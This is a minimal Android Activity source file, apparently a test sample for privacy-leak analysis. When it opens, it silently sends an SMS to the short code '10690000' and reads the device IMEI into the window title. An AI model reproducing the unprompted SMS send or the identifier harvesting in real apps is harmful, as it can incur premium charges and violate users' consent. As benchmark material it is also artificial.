package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        StringBuilder text = new StringBuilder("opened");
        SmsManager.getDefault().sendTextMessage("10690000", null, text.toString(), null, null);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        text.append(phone.getImei());
        setTitle(text);
    }
}
